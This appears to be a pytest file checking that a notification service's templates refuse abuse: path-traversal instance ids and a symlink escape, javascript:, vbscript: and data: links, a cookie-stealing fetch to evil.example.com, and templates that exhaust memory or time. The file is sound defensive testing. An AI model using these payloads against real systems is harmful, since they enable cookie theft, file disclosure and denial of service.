"""Templates cannot be turned against the user or the host.

An instance id is not a path, a link is https: or http:, and rendering has
limits of size and time; each refusal is a permanent RenderError naming the
file (or field) and line, so the message is canceled, never sent.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.cli import clean_env, tidings
from tests.projection_helpers import code_event, user_added
from tests.render_helpers import sample_request, sample_user
from tests.worker_helpers import CRYPTO, KEY
from tidings.config import CryptoSettings, Settings, TemplateSettings
from tidings.eventstore import Database, EventQuery
from tidings.notification.codes import CodeCipher, generate_key
from tidings.notification.compose import MessageComposer
from tidings.notification.errors import PermanentSendError, RenderError
from tidings.notification.setup import build_composer


def composer(override_dir: Path | None = None, **templates: Any) -> MessageComposer:
    key = generate_key()
    settings = Settings(
        crypto=CryptoSettings(keys={"k1": key}, active_key="k1"),
        templates=TemplateSettings(dir=override_dir, **templates),
    )
    return build_composer(settings)


def compose(c: MessageComposer, instance_id: str = "acme", **request: Any) -> object:
    return c.compose(
        notification_id="n-1",
        instance_id=instance_id,
        attempt=1,
        request=sample_request(**request),
        user=sample_user(instance_id=instance_id),
    )


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


OUTSIDE = "PasswordReset:\n  subject: read from outside templates.dir\n"


def test_an_instance_id_is_not_a_path(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    write(templates / "_default" / "texts.en.yaml", "PasswordReset:\n  footer: the default\n")
    write(tmp_path / "outside" / "texts.en.yaml", OUTSIDE)
    c = composer(templates)
    for instance_id in ("../outside", "..", "acme/../../outside", "/etc"):
        email = compose(c, instance_id).content  # type: ignore[attr-defined]
        assert "outside" not in email.subject, instance_id
        assert "the default" in email.text, "_default still applies"

    # A folder inside that leads out through a link is refused, naming it.
    (templates / "linked").symlink_to(tmp_path / "outside")
    with pytest.raises(RenderError, match=r"leads outside templates\.dir"):
        compose(c, "linked")


@pytest.mark.parametrize(
    "url_template",
    [
        "javascript:alert(document.cookie)",
        "  JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "//evil.example.com/reset?code={{.Code}}",
        "{{.Code}}:whatever",
    ],
)
def test_a_link_is_https_or_http(url_template: str) -> None:
    with pytest.raises(RenderError) as caught:
        compose(composer(), url_template=url_template)
    assert isinstance(caught.value, PermanentSendError)
    assert "url_template: a link must be https: or http: (templates.allowed_url_schemes)" in str(
        caught.value
    )


def test_allowed_schemes_are_a_setting() -> None:
    email = compose(composer(), url_template="http://login.example.com/reset?c={{.Code}}")
    assert "http://login.example.com/reset" in email.content.text  # type: ignore[attr-defined]
    app = composer(allowed_url_schemes=("https", "myapp"))
    assert compose(app, url_template="myapp://reset?c={{.Code}}")
    with pytest.raises(RenderError, match="not http:"):
        compose(app, url_template="http://login.example.com/")
    with pytest.raises(ValueError, match="never javascript"):
        TemplateSettings(allowed_url_schemes=("https", "javascript"))


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (
            "{{ 'A' * 5000000 }}",
            "a value of 5000000 items is over 65536 (templates.max_field_bytes)",
        ),
        (
            "{% for i in range(99999) %}AAAAAAAAAA{% endfor %}",
            "the output is over 65536 bytes (templates.max_field_bytes)",
        ),
        (
            "{% for i in range(1000) %}{% for j in range(1000) %}{% endfor %}{% endfor %}",
            "the loops go over 100000 steps in one rendering",
        ),
        ("{{ 9 ** 999999 }}", "the exponent 999999 is over 64"),
        # A text without a tag skips Jinja, not the limit.
        ("A" * 70000, "the output is over 65536 bytes (templates.max_field_bytes)"),
    ],
)
def test_rendering_has_limits_named_with_file_and_line(tmp_path: Path, body: str, why: str) -> None:
    texts = write(
        tmp_path / "acme" / "texts.en.yaml", f'PasswordReset:\n  title: fine\n  body: "{body}"\n'
    )
    with pytest.raises(RenderError) as caught:
        compose(composer(tmp_path))
    assert f"{texts}:3: PasswordReset.body failed to render" in str(caught.value)
    assert why in str(caught.value)
    assert caught.value.line == 3


def test_the_whole_message_has_a_limit(tmp_path: Path) -> None:
    write(tmp_path / "acme" / "texts.en.yaml", f"PasswordReset:\n  body: {'B' * 3000}\n")
    with pytest.raises(RenderError) as caught:
        compose(composer(tmp_path, max_message_bytes=8192))
    assert "over 8192 (templates.max_message_bytes)" in str(caught.value)
    assert "the largest part is layout.html" in str(caught.value)
    assert compose(composer(tmp_path))  # within the default


async def test_a_javascript_link_cancels_the_message_through_the_real_run(
    db: Database, conninfo: str, tmp_path: Path
) -> None:
    code = CodeCipher.from_settings(CRYPTO).encrypt("482913").model_dump()
    await db.store.append([user_added()])
    link = "javascript:fetch('//evil.example.com/'+document.cookie)"
    await db.store.append(
        [code_event("user.human.password.code.added", code=code, url_template=link)]
    )
    env = clean_env(
        TIDINGS_DATABASE_URL=conninfo,
        TIDINGS_CRYPTO_KEYS=f"k1={KEY}",
        TIDINGS_CHANNELS_FILESYSTEM_OUTBOX_DIR=str(tmp_path / "outbox"),
    )
    result = tidings("run", "--until-idle", env=env)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "canceled (permanent_error)" in result.stdout, result.stdout
    assert "url_template: a link must be https: or http:" in result.stdout
    assert not (tmp_path / "outbox").exists() or not any((tmp_path / "outbox").rglob("*.eml"))
    assert await db.store.query(EventQuery(event_types=("notification.sent",))) == []


def test_rendering_has_a_time_limit(tmp_path: Path) -> None:
    texts = write(
        tmp_path / "acme" / "texts.en.yaml",
        'PasswordReset:\n  title: fine\n  body: "{% for i in range(99999) %}{{ i }}{% endfor %}"\n',
    )
    slow = composer(tmp_path, render_timeout="10ms", max_field_bytes=16_777_216)
    with pytest.raises(RenderError) as caught:
        compose(slow)
    assert f"{texts}:3: PasswordReset.body failed to render" in str(caught.value)
    assert "rendering took over 0.01s (templates.render_timeout)" in str(caught.value)


def test_an_error_deep_in_a_block_text_names_its_own_line(tmp_path: Path) -> None:
    """A failure on the third line of a block text is reported at that line of the file."""
    texts = write(
        tmp_path / "acme" / "texts.en.yaml",
        "PasswordReset:\n  title: fine\n  body: |\n    one\n    two\n    {{ nope.x }}\n",
    )
    with pytest.raises(RenderError) as caught:
        compose(composer(tmp_path))
    assert f"{texts}:6: PasswordReset.body failed to render" in str(caught.value)
    assert "'nope' is undefined" in str(caught.value)
    assert caught.value.line == 6


@pytest.mark.parametrize(("repeat", "refused"), [(5000, False), (5462, True)])
def test_the_field_limit_counts_bytes_not_characters(
    tmp_path: Path, repeat: int, refused: bool
) -> None:
    """'€' is 3 bytes: an SMS of 5,000 of them (15,000 bytes) passes a 16,384-byte limit,
    one of 5,462 does not."""
    write(
        tmp_path / "acme" / "texts.en.yaml",
        f"PasswordReset:\n  sms: \"{{{{ '€' * {repeat} }}}}\"\n",
    )
    c = composer(tmp_path, max_field_bytes=16_384)
    if not refused:
        assert compose(c, channel="sms")
        return
    with pytest.raises(RenderError) as caught:
        compose(c, channel="sms")
    assert "the output is over 16384 bytes (templates.max_field_bytes)" in str(caught.value)
